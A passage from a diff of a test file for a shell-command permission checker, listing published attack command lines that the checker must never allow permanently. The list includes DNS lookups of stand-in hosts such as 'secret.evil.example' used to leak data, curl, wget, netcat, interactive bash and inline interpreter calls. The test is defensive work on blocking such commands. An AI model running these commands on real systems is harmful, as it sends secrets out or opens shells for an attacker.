@@ -1,9 +1,12 @@
-// Published attacks by command lines, none of which can be allowed for good.
+// Published attacks by command lines, none of which can be allowed permanently.
 import assert from 'node:assert/strict';
 import { hazardsOf } from '../../src/core/shell/hazards';
 import { offersOf } from '../../src/core/shell/allowance';
 
-/** Kinds: DNS and HTTP senders; interpreters; plugins and configuration of test runners, linters and builds; git options; archives; viewers of secrets; installers; agents. */
+/**
+ * Kinds: programs that send by DNS and HTTP; interpreters; plugins and configuration of test runners, linters and builds; git options;
+ * archives; viewers of secrets; installers; agents.
+ */
 const lines = `
 ping -c1 secret.evil.example|nslookup a.evil.example|dig a.evil.example|host a.evil.example|getent hosts a.evil.example
 resolvectl query a.evil.example|drill a.b|traceroute a.b|curl a.b|wget a.b|nc a.b 80|bash -i|sh -c id|python -c x|perl -e x
